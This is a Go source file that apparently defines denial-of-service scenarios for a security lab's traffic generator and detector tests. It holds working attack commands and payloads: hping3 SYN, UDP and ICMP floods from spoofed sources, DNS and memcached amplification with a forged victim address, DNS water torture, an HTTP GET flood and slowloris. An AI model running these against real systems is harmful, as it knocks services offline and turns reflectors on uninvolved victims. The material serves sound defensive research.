package lab

import (
	"encoding/binary"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"strings"
	"time"
)

// Denial of service: hping3 floods with random sources, and DNS and
// memcached reflections with the victim's address forged. Each is bounded
// by a packet count and an interval (hping3 -c and -i), never --flood.

// floodRate is the floods' packets per second.
const floodRate = 1000

func init() {
	register(
		floodScenario("syn-flood", "flood.syn", "T1499.001",
			"hping3 SYN flood at the server's web port from random spoofed sources (1000 packets/s).",
			"-S", "-p", "80"),
		floodScenario("udp-flood", "flood.udp", "T1498.001",
			"hping3 UDP flood at a closed port of the server from random spoofed sources (1000 packets/s, 200-byte payloads); the server answers with ICMP port unreachable.",
			"--udp", "-p", "161", "-d", "200"),
		floodScenario("icmp-flood", "flood.icmp", "T1498.001",
			"hping3 ICMP echo flood at the server from random spoofed sources (1000 packets/s, 500-byte payloads).",
			"--icmp", "-d", "500"),
		&Scenario{
			Name: "dns-amplification", Difficulty: Medium,
			Description: "DNS reflection: the attacker sends EDNS TXT queries for a large record to the LAN resolver with ws1's address as source (50 queries/s); ~3.6 KB answers go to ws1.",
			Tools:       []string{"hping3"}, Classes: []string{"flood.amplification"}, MITRE: []string{"T1498.002"},
			Attacker: hostPtr(hostAtk), Victims: v4(hostWS1, hostServer), Duration: 15 * time.Second,
			Notes: "the queries carry ws1's address as source (forged: their source MAC is the attacker's); the resolver srv is the reflector",
			attack: func(a *attackRun) error {
				query, err := writeAmplificationQuery(a.w)
				if err != nil {
					return err
				}
				const rate = 50
				return a.run(hostAtk, "hping3", "--udp", "-a", hostWS1.IPv4().String(), "-s", "33000", "-k",
					"-p", "53", "-E", query, "-d", fmt.Sprint(dnsQueryLen()),
					"-i", fmt.Sprintf("u%d", 1_000_000/rate), "-c", fmt.Sprint(count(rate, a.duration)),
					hostServer.IPv4().String())
			},
		},
		&Scenario{
			Name: "dns-water-torture", Difficulty: Medium,
			Description: fmt.Sprintf("DNS water torture (Mirai on Dyn, 2016): %d bots on the LAN (the attacker's extra addresses .%d–.%d) ask the LAN resolver for random subdomains of %s, each name new, %d a second in all; the resolver answers every one NXDOMAIN.",
				lanBots, lanBotFirstOctet, lanBotFirstOctet+lanBots-1, tortureDomain, tortureRate),
			Tools: []string{"ip", "dig"}, Classes: []string{"flood.dns"}, MITRE: []string{"T1499.002"},
			Attacker: hostPtr(hostAtk), AttackerAddrs: lanBotAddrs(), Victims: v4(hostServer), Duration: 15 * time.Second,
			Notes:  "the bots are addresses the attacker host adds to its LAN interface for the run (one MAC, as bots behind one switch port); srv's resolver is the hammered server (the victim domain's name servers are outside the lab)",
			attack: tortureAttack,
		},
		&Scenario{
			Name: "http-flood", Difficulty: Medium,
			Description: fmt.Sprintf("HTTP GET flood: %d bots on the LAN (the attacker's extra addresses .%d–.%d) request %s from srv's web server, each over one kept-alive connection with a new query string every time, %d requests in all at %d a second or more; nginx answers every one.",
				lanBots, lanBotFirstOctet, lanBotFirstOctet+lanBots-1, httpFloodPath, httpFloodRequests, 10*lanBots),
			Tools: []string{"ip", "curl"}, Classes: []string{"flood.http"}, MITRE: []string{"T1499.002"},
			Attacker: hostPtr(hostAtk), AttackerAddrs: lanBotAddrs(), Victims: v4(hostServer), Duration: 15 * time.Second,
			Notes:  "the bots are addresses the attacker host adds to its LAN interface for the run (one MAC); their requests are curl's (its own user agent), as cheap flood tools send them: only too many, all for one page",
			attack: httpFloodAttack,
		},
		&Scenario{
			Name: "slowloris", Difficulty: Medium,
			Description: fmt.Sprintf("Slow HTTP DoS (slowloris): slowhttptest opens %d connections to srv's web server, %d a second, and keeps each open by sending one more header line every %d s, never ending the request; nginx holds them until the test ends.",
				slowlorisConns, slowlorisRate, slowlorisEvery),
			Tools: []string{"slowhttptest"}, Classes: []string{"flood.http"}, MITRE: []string{"T1499.002"},
			Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 30 * time.Second,
			Notes: "srv's nginx takes 256 connections at most: the attack holds most of them; slowhttptest also checks now and then with a complete request whether the server still answers",
			attack: func(a *attackRun) error {
				return a.run(hostAtk, "slowhttptest", "-H", "-c", fmt.Sprint(slowlorisConns), "-r", fmt.Sprint(slowlorisRate),
					"-i", fmt.Sprint(slowlorisEvery), "-x", "16", "-p", "3", "-l", seconds(a.duration),
					"-u", "http://"+hostServer.IPv4().String()+"/")
			},
		},
		&Scenario{
			Name: "memcached-amplification", Difficulty: Medium,
			Description: fmt.Sprintf("memcached reflection (2018): the attacker stores a %d KB value on srv's open memcached over TCP, then sends UDP get requests for it with ws1's address as source (%d/s); each ~%d KB answer, in %d datagrams, goes to ws1.",
				memcachedValueLen/1000, memcachedRate, memcachedValueLen/1000, memcachedDatagrams()),
			Tools: []string{"memcached", "socat", "hping3"}, Classes: []string{"flood.amplification"}, MITRE: []string{"T1498.002"},
			Attacker: hostPtr(hostAtk), Victims: v4(hostWS1, hostServer), Duration: 15 * time.Second,
			Notes:    "the get requests carry ws1's address as source (forged: their source MAC is the attacker's); srv's memcached (UDP on, as before memcached 1.5.6) is the reflector; the value was stored over TCP from the attacker's own address",
			services: []service{{hostServer, "memcached", memcachedConfig, []int{memcachedPort}, []int{memcachedPort}}},
			attack:   memcachedAttack,
		},
	)
}

// The memcached reflection: the value stored, and the rate of forged
// requests for it.
const (
	memcachedPort     = 11211
	memcachedKey      = "a"
	memcachedValueLen = 100_000
	memcachedRate     = 10
	// memcachedUDPPayload is the largest UDP payload memcached sends,
	// its 8-byte frame header included (UDP_MAX_PAYLOAD_SIZE).
	memcachedUDPPayload = 1400
)

// memcachedDatagrams is how many datagrams answer one get: the value, its
// VALUE line and END, cut into memcachedUDPPayload-byte pieces.
func memcachedDatagrams() int {
	n := len(memcachedValueHeader()) + memcachedValueLen + len("\r\nEND\r\n")
	return (n + memcachedUDPPayload - 9) / (memcachedUDPPayload - 8)
}

func memcachedValueHeader() string {
	return fmt.Sprintf("VALUE %s 0 %d\r\n", memcachedKey, memcachedValueLen)
}

func memcachedAttack(a *attackRun) error {
	seed, request, err := writeMemcachedPayloads(a.w)
	if err != nil {
		return err
	}
	srv := hostServer.IPv4().String()
	return a.sequence(
		// As attackers seed open servers: one set over TCP, then quit
		// (memcached closes; shut-none keeps socat from half-closing
		// before the answer).
		a.phased("store the value", func() error {
			return a.run(hostAtk, "socat", "-t", "5", "OPEN:"+seed+",rdonly!!STDOUT",
				fmt.Sprintf("TCP:%s:%d,connect-timeout=5,shut-none", srv, memcachedPort))
		}),
		a.phased("forged get requests", func() error {
			return a.run(hostAtk, "hping3", "--udp", "-a", hostWS1.IPv4().String(), "-s", "33000", "-k",
				"-p", fmt.Sprint(memcachedPort), "-E", request, "-d", fmt.Sprint(len(memcachedRequest())),
				"-i", fmt.Sprintf("u%d", 1_000_000/memcachedRate), "-c", fmt.Sprint(count(memcachedRate, a.duration)), srv)
		}),
	)
}

// memcachedRequest is a get over UDP: memcached's 8-byte frame header
// (request id, sequence number 0, 1 datagram, reserved) and the text
// command.
func memcachedRequest() []byte {
	return append([]byte{0x13, 0x37, 0, 0, 0, 1, 0, 0}, "get "+memcachedKey+"\r\n"...)
}

// memcachedSeed is the TCP session that stores the value.
func memcachedSeed() []byte {
	b := []byte(fmt.Sprintf("set %s 0 0 %d\r\n", memcachedKey, memcachedValueLen))
	b = append(b, strings.Repeat("0123456789abcdef", memcachedValueLen/16+1)[:memcachedValueLen]...)
	return append(b, "\r\nquit\r\n"...)
}

func writeMemcachedPayloads(w workDir) (seed, request string, err error) {
	if seed, err = w.write("memcached-seed.txt", string(memcachedSeed()), 0o644); err != nil {
		return "", "", err
	}
	if request, err = w.write("memcached-get.bin", string(memcachedRequest()), 0o644); err != nil {
		return "", "", err
	}
	return seed, request, nil
}

// floodScenario is an hping3 flood of the server with random sources.
func floodScenario(name, class, mitre, desc string, mode ...string) *Scenario {
	return &Scenario{
		Name: name, Difficulty: Easy, Description: desc,
		Tools: []string{"hping3"}, Classes: []string{class}, MITRE: []string{mitre},
		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 10 * time.Second,
		Notes: "source addresses are random (--rand-source): the attacker is known by its MAC",
		attack: func(a *attackRun) error {
			argv := append([]string{"hping3"}, mode...)
			argv = append(argv, "--rand-source", "-i", fmt.Sprintf("u%d", 1_000_000/floodRate),
				"-c", fmt.Sprint(count(floodRate, a.duration)), hostServer.IPv4().String())
			return a.run(hostAtk, argv...)
		},
	}
}

// count is the number of packets rate per second for d.
func count(rate int, d time.Duration) int {
	return max(1, int(float64(rate)*d.Seconds()))
}

// dnsQuery is a TXT query for the large record with an EDNS0 OPT record
// offering 4096-byte answers: the reflection's request.
func dnsQuery() []byte {
	q := []byte{0x13, 0x37, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 1} // id, RD, 1 question, 1 additional
	for _, label := range strings.Split(ampName, ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	q = append(q, 0, 0, 16, 0, 1) // root, TXT, IN
	opt := []byte{0, 0, 41, 0, 0, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(opt[3:], 4096)
	return append(q, opt...)
}

func dnsQueryLen() int { return len(dnsQuery()) }

func writeAmplificationQuery(w workDir) (string, error) {
	p := w.path("dns-txt-query.bin")
	if err := os.WriteFile(p, dnsQuery(), 0o644); err != nil {
		return "", fmt.Errorf("lab: amplification query: %w", err)
	}
	return p, nil
}

// The LAN bots of the water torture and the HTTP flood: addresses the
// attacker adds to its LAN interface for the run.
const (
	lanBots          = 30
	lanBotFirstOctet = 200
)

// The water torture: its pace and the victim domain.
const (
	tortureRate = 150
	// tortureMin is the fewest queries a run sends (faster, when its
	// --duration is short): a flood is 1,000 or more.
	tortureMin    = 1200
	tortureDomain = "victim-dns.example"
)

// lanBotAddrs are the attacker's addresses in the water torture and the
// HTTP flood: its own and its bots'.
func lanBotAddrs() []string {
	out := []string{hostAtk.IPv4().String()}
	for i := range lanBots {
		out = append(out, hostAddr(lanNet4, byte(lanBotFirstOctet+i)).String())
	}
	return out
}

// tortureAttack adds the bots' addresses to the attacker's interface and
// has one dig, reading a batch, ask the resolver from each bot in turn for
// a new random name under the victim domain.
func tortureAttack(a *attackRun) error {
	bots, err := addLANBots(a)
	if err != nil {
		return err
	}
	rng := rand.New(rand.NewPCG(uint64(a.now().Unix()), 0x746f72))
	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
	lines := make([]string, max(count(tortureRate, a.duration*4/5), tortureMin))
	for i := range lines {
		label := make([]byte, 24+rng.IntN(9))
		for j := range label {
			label[j] = alphabet[rng.IntN(len(alphabet))]
		}
		lines[i] = fmt.Sprintf("-b %s %s.%s A", bots[i%len(bots)], label, tortureDomain)
	}
	fifo := a.w.path("torture/names")
	if !a.dryRun {
		if err := a.makeFIFO(fifo); err != nil {
			return err
		}
	}
	dig := []string{"dig", "-f", fifo, "+tries=1", "+time=1", "+noall", "@" + hostServer.IPv4().String()}
	return a.phase("random-subdomain queries", func() error {
		return a.feed(hostAtk, dig, fifo, lines, min(time.Second/tortureRate, a.duration*4/5/time.Duration(len(lines))))
	})
}

// addLANBots adds the bots' addresses to the attacker's LAN interface and
// returns them.
func addLANBots(a *attackRun) ([]string, error) {
	bots := lanBotAddrs()[1:]
	for _, b := range bots {
		if err := a.run(hostAtk, "ip", "addr", "add", b+"/24", "dev", "eth0"); err != nil {
			return nil, err
		}
	}
	return bots, nil
}

// The HTTP flood: requests in all (over the detector's 3000), and the
// page asked for (small: the capture is committed).
const (
	httpFloodRequests = 3150
	httpFloodPath     = "/api/status.json"
)

// httpFloodAttack has each bot request the page from srv's nginx over one
// kept-alive connection (curl's URL glob makes each query string new, as
// cache-busting floods do), paced so that the flood takes about four
// fifths of the run and no less than 10 requests a second a bot.
func httpFloodAttack(a *attackRun) error {
	bots, err := addLANBots(a)
	if err != nil {
		return err
	}
	perBot := httpFloodRequests / len(bots)
	rate := max(10, int(math.Ceil(float64(perBot)/(a.duration.Seconds()*4/5))))
	fns := make([]func() error, len(bots))
	for i, b := range bots {
		url := fmt.Sprintf("http://%s%s?b=%d&r=[1-%d]", hostServer.IPv4(), httpFloodPath, i, perBot)
		argv := []string{"curl", "-s", "--interface", b, "--rate", fmt.Sprintf("%d/s", rate), "--max-time", "30", url}
		fns[i] = func() error { return a.run(hostAtk, argv...) }
	}
	return a.phase("GET flood", func() error { return a.parallel(len(fns), fns) })
}

// The slowloris attack: its connections, how fast it opens them, and how
// often each sends one more header line.
const (
	slowlorisConns = 200
	slowlorisRate  = 100
	slowlorisEvery = 5
)
